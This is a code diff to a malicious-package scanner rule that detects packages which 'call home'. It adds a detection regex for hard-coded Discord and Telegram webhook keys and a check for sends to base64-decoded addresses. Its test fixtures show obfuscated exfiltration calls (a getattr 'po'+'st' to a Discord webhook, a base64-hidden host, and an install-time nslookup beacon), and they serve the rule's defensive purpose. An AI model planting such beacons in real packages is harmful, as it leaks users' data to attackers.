@@ -14,6 +14,11 @@ from pratique.rules.claims import HIDDEN_PLACE, claim, command, destination, hid
 from pratique.rules.rule import Example, Rule
 
 _ID = "beacon"
+_OWN_HOOK = re.compile(
+    r"discord(?:app)?\.com/api/(?:v\d+/)?webhooks/\d{15,21}/[\w-]{40,}|api\.telegram\.org/bot\d{6,12}:[\w-]{30,}"
+)
+"""With the key in the code, whoever wrote it reads what is sent: a library is given its user's key."""
+_READABLE = frozenset({"json", "literal", "percent", "html", "replace", "slice", "codec", "idna", "punycode"})
 _PROGRAM = re.compile(r"\.(exe|scr|msi|bat|cmd|ps1|vbs|hta|dll)([?#]|$)", re.IGNORECASE)
 """A program for Windows by its name: no build needs one."""
 _KEEPS = re.compile(r"[|>]|\s-[a-zA-Z]*[oO]\b|--output|\bwget\b")
@@ -42,6 +47,8 @@ def _check(facts: PackageFacts) -> Iterator[Finding]:
     for file in facts.python:
         for call in file.calls:
             if not call.phase.automatic:
+                if Does.SEND in call.does and (finding := _sink(file.path, call)) is not None:
+                    yield finding
                 continue
             if call.does & {Does.SEND, Does.FETCH}:
                 yield from _network(file, call)
@@ -63,6 +70,23 @@ def _network(file: PythonFacts, call: Call) -> Iterator[Finding]:
         yield _calls(file.path, call, place or "another host", worst=worst)
     elif HIDDEN_PLACE.search(place) and not secret_place(place):  # what a machine's own cloud tells it stays there
         yield _calls(file.path, call, place, worst=True)
+
+
+def _sink(path: str, call: Call) -> Finding | None:
+    """A message to a chat's hook whose key stands in the code, or to an address that was decoded, whoever calls."""
+    place = destination(call)
+    key = next((k for k in ("url", "0", "1") if k in call.arguments and call.arguments[k].text[:160] == place), "")
+    if not place or not key:
+        return None
+    decoded = any(
+        t.source is Source.DECODED and not _READABLE.issuperset(t.detail.split(">")) for t in call.arguments[key].taints
+    )
+    if not (
+        _OWN_HOOK.search(call.arguments[key].text) or (decoded and call.arguments[key].known and hidden(call, place))
+    ):
+        return None
+    message = f"sends to {place}, {'an address that was hidden' if decoded else 'a chat'}, {when(call.phase)}"
+    return claim(_ID, Behaviour.SECOND_STAGE, path, call, message, severity=Severity.CRITICAL)
 
 
 def _command(path: str, call: Call) -> Iterator[Finding]:
@@ -108,7 +132,8 @@ def _identifying(taints: tuple[Taint, ...]) -> tuple[Taint, ...]:
 RULE = Rule(
     id=_ID,
     behaviour=Behaviour.THEFT,
-    summary="The package calls home by itself: at install, with the host's or user's name, or to a place that hides its owner.",
+    summary="The package calls home by itself: at install, with the host's or user's name, or to a place that hides its "
+    "owner; or whoever calls it, to a chat whose key stands in the code.",
     gain="The attacker learns who installed it and whom to attack next; dependency confusion is found this way.",
     honest="Telemetry runs when a program is used; a build that fetches what it needs comes from the project's own home.",
     check=_check,
@@ -131,6 +156,20 @@ RULE = Rule(
             },
         ),
         Example(
+            title="a message to a chat whose key stands in the code, when called",
+            files={
+                "pkg/__init__.py": "import requests as r\ndef check(name):\n"
+                "    getattr(r, 'po' + 'st')('https://discord.com/api/webhooks/100000000000000000/' + 'a' * 68, json={'u': name})\n"
+            },
+        ),
+        Example(
+            title="a message to an address that a decoder hid, when called",
+            files={
+                "pkg/__init__.py": "import base64, requests\ndef check(name):\n"
+                "    requests.post(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8='), json={'u': name})\n"
+            },
+        ),
+        Example(
             title="a question to the name system at install",
             files={"setup.py": "import os\ngetattr(os, 'sys' + 'tem')('nslookup a1.c.example.invalid')\n"},
         ),
@@ -150,6 +189,13 @@ RULE = Rule(
         ),
     ),
     quiet=(
+        Example(
+            title="a client of chats, whose key its user gives",
+            files={
+                "pkg/__init__.py": "import requests\nURL = 'https://discord.com/api/webhooks/{}/{}'\ndef say(key, token, text):\n"
+                "    requests.post(URL.format(key, token), json={'content': text})\n"
+            },
+        ),
         Example(
             title="a module that a test of the project starts by name",
             files={
